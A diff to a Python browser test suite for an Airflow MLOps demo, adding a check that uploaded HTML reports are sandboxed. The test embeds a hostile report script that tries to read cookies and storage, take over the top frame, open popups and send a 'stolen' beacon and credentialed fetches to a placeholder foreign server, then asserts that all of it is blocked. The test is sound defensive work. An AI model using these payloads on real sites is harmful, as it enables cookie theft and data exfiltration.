@@ -9,14 +9,17 @@ for each check, a picture of each page, and exit code 1 when one does not hold.
 from __future__ import annotations
 
 import argparse
+import hashlib
 import os
 import shutil
 import signal
 import sys
+import threading
 import time
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager, suppress
 from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 from urllib.parse import urlsplit
@@ -25,6 +28,7 @@ from airflow_mlops import demo
 from airflow_mlops.demo.__main__ import MARK
 from airflow_mlops.demo.__main__ import main as run_demo
 from airflow_mlops.demo.airflow import LiveAirflow, free_port
+from airflow_mlops.store import LocalStore, layout
 
 PREFIX = "/team/airflow"
 DAGS = Path(demo.__file__).parents[2] / "dags"
@@ -271,24 +275,114 @@ def numbers_times_and_graphs_are_laid_out_right(w: World) -> None:
     )
 
 
+HOSTILE = """<!doctype html><title>Gate report</title><h1>Gate report</h1>
+<a href="FOREIGN/link" target="_blank">more</a>
+<form action="FOREIGN/form" target="_top"></form>
+<img src="FOREIGN/img"><link rel="stylesheet" href="FOREIGN/style"><iframe src="FOREIGN/inner"></iframe>
+<script>
+const tried = {};
+const attempt = (name, what) => {
+  try { const got = what(); tried[name] = got === null ? "refused" : `reached ${got}`; }
+  catch (error) { tried[name] = error.name; }
+};
+attempt("cookie", () => document.cookie);
+attempt("storage", () => localStorage.length + sessionStorage.length);
+attempt("parent", () => parent.document.title);
+attempt("top", () => top.document.title);
+attempt("lead top", () => { top.location = "FOREIGN/top"; });
+attempt("popup", () => open("FOREIGN/popup"));
+document.querySelector("a").click();
+document.querySelector("form").submit();
+navigator.sendBeacon("FOREIGN/beacon", "stolen");
+const ask = (url) => fetch(url, {credentials: "include"}).then((r) => `reached ${r.status}`, (error) => error.name);
+window.all = Promise.all([ask("AIRFLOW/api/v2/dags"), ask("AIRFLOW/mlops/api/fleet"), ask("FOREIGN/fetch")])
+  .then(([api, pages, foreign]) => ({...tried, api, pages, foreign, origin: self.origin}));
+</script>"""
+ASTRAY = (
+    "location = URL",
+    "location.replace(URL)",
+    "document.head.innerHTML = `<meta http-equiv=refresh content='0;url=${URL}'>`",
+    "document.querySelector('a').target = '_self'; document.querySelector('a').click()",
+)
+
+
+@contextmanager
+def foreign_server() -> Iterator[tuple[str, list[str]]]:
+    """A server that is not Airflow's; yields its address and the paths that it was asked for."""
+    asked: list[str] = []
+
+    class Answer(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *_: Any) -> None:
+            """Say nothing."""
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", asked
+        server.shutdown()
+
+
 @check
-def a_report_reaches_nothing(w: World) -> None:
-    page = w.open(whole(FLIGHTS, "reports"))
-    frame = page.locator("iframe").first
-    frame.scroll_into_view_if_needed()
-    content = frame.element_handle().content_frame()
-    content.wait_for_selector("body *")
-    tried = """() => {
-      const out = {};
-      for (const [name, what] of [["cookie", () => document.cookie], ["parent", () => parent.document.title],
-                                  ["storage", () => localStorage.length]]) {
-        try { what(); out[name] = "reached"; } catch (error) { out[name] = error.name; }
-      }
-      return {...out, origin: self.origin};
-    }"""
-    said = content.evaluate(tried)
-    denied = dict.fromkeys(("cookie", "parent", "storage"), "SecurityError")
-    want(said == {**denied, "origin": "null"}, str(said))
+def a_report_reaches_nothing(w: World) -> str:
+    page = w.sign_in("admin")
+    with foreign_server() as (foreign, asked):
+        text = HOSTILE.replace("FOREIGN", foreign).replace("AIRFLOW", w.root).encode()
+        digest = hashlib.sha256(text).hexdigest()
+        store = LocalStore(Path(urlsplit(w.live.env["AIRFLOW__MLOPS__STORE"]).path))
+        store.put(layout.report(f"{FLIGHTS}__train", digest), text)
+        report = f"{w.root}/mlops/reports/{FLIGHTS}__train/{digest}"
+
+        def in_a_tab() -> None:
+            page.goto(report)
+
+        def in_the_page() -> None:
+            # The frame that the page made for another report.
+            w.open(whole(FLIGHTS, "reports"), page=page)
+            frame = page.locator("iframe").first
+            frame.evaluate("(frame, url) => { frame.loading = 'eager'; frame.src = url; }", report)
+
+        def raw_in_a_tab() -> None:
+            page.goto(f"{report}/raw")
+
+        denied = ("cookie", "storage", "parent", "top", "lead top")
+        expected = {**dict.fromkeys(denied, "SecurityError"), "popup": "refused", "origin": "null"}
+        expected |= dict.fromkeys(("api", "pages", "foreign"), "TypeError")
+        for place in (in_a_tab, in_the_page, raw_in_a_tab):
+            for way in ASTRAY:
+                place()
+                outside = page.url
+                # Three frames deep at most: Airflow's page, the page around the report, the report.
+                frame = wait_until(page, lambda: next((f for f in page.frames if f.url == f"{report}/raw"), None))
+                frame.wait_for_function("window.all")
+                said = frame.evaluate("all")
+                want(said == expected, f"{place.__name__}: {said}")
+                frame.evaluate(f"setTimeout(() => {{ {way.replace('URL', repr(f'{foreign}/astray'))} }})")
+                wait_until(page, lambda f=frame: f.is_detached() or f.url != f"{report}/raw")
+                page.wait_for_timeout(300)
+                want(page.url == outside, f"{place.__name__}: the report led the tab to {page.url}")
+                want(len(page.context.pages) == 1, f"{place.__name__}: the report opened a tab")
+                want(not asked, f"{place.__name__}, {way}: the foreign server was asked for {asked}")
+        # It does hear whoever may ask.
+        page.goto(f"{foreign}/control")
+        want(asked[0] == "/control", f"asked {asked}")
+    page.context.close()
+    w.hosts.discard(urlsplit(foreign).netloc)
+    return f"{len(expected)} ways out and {len(ASTRAY)} ways astray, in a tab and in a page"
+
+
+def wait_until(page: Any, truth: Callable[[], Any], seconds: float = 20) -> Any:
+    """What ``truth`` returns, once it is something."""
+    deadline = time.monotonic() + seconds
+    while not (found := truth()):
+        want(time.monotonic() < deadline, "it did not come to that")
+        page.wait_for_timeout(50)  # its events come in meanwhile
+    return found
 
 
 def press(page: Any, name: str) -> Any:
